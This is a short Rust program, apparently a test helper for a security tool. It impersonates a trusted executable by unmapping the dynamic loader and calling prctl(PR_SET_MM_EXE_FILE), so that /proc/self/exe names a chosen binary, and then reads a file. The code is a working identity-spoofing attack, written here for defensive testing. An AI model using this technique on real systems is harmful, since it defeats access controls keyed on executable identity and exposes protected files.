//! `exe-swapper TARGET FILE`, run through the dynamic loader
//! (`/lib64/ld-linux-x86-64.so.2 exe-swapper TARGET FILE`): borrows TARGET as its executable,
//! then reads FILE and prints it. The attack of a process that passes for a learned program:
//! exec'd, its `mm->exe_file` is the loader; it unmaps the loader (the kernel refuses to change
//! an executable that is still mapped) and points `mm->exe_file` at TARGET with
//! `prctl(PR_SET_MM, PR_SET_MM_EXE_FILE)`, so that `/proc/self/exe` names TARGET when it opens
//! FILE. Needs `CAP_SYS_RESOURCE` in its user namespace (an unprivileged process gets it in a
//! user namespace of its own; the tests run it as root).
//!
//! Exit status 2 on bad usage, 3 when the swap was refused, 1 when FILE could not be read.

use std::ffi::CString;
use std::os::fd::AsRawFd as _;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, target, file] = args.as_slice() else {
        eprintln!("usage: ld.so exe-swapper TARGET FILE");
        std::process::exit(2);
    };
    let loader = std::fs::read_link("/proc/self/exe").expect("reading /proc/self/exe");
    let maps = std::fs::read_to_string("/proc/self/maps").expect("reading /proc/self/maps");
    // Every mapping of the loader: start and end addresses.
    let ranges: Vec<(usize, usize)> = maps
        .lines()
        .filter(|line| line.ends_with(&*loader.to_string_lossy()))
        .filter_map(|line| {
            let (start, end) = line.split_whitespace().next()?.split_once('-')?;
            Some((
                usize::from_str_radix(start, 16).ok()?,
                usize::from_str_radix(end, 16).ok()?,
            ))
        })
        .collect();
    if ranges.is_empty() {
        eprintln!(
            "exe-swapper: {} is not mapped: run me through the dynamic loader",
            loader.display()
        );
        std::process::exit(2);
    }
    let target = std::fs::File::open(target).expect("opening TARGET");
    let file = CString::new(file.as_str()).expect("a path without NUL");
    // From here on only system calls: the loader's code and data (which malloc and the
    // unwinder use) are gone.
    // SAFETY: the ranges are the loader's own mappings, which nothing below uses (the binary is
    // linked with immediate binding, so no call resolves a symbol through the loader); every
    // pointer passed is live and the buffer is this frame's.
    unsafe {
        for (start, end) in ranges {
            libc::munmap(start as *mut libc::c_void, end - start);
        }
        if libc::prctl(
            libc::PR_SET_MM,
            // Variadic: each argument as the unsigned long the kernel reads.
            libc::PR_SET_MM_EXE_FILE as libc::c_ulong,
            target.as_raw_fd() as libc::c_ulong,
            0 as libc::c_ulong,
            0 as libc::c_ulong,
        ) != 0
        {
            libc::_exit(3);
        }
        let fd = libc::open(file.as_ptr(), libc::O_RDONLY);
        if fd < 0 {
            libc::_exit(1);
        }
        let mut buf = [0u8; 4096];
        loop {
            let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
            if n <= 0 {
                break;
            }
            libc::write(1, buf.as_ptr().cast(), n as usize);
        }
        libc::_exit(0);
    }
}
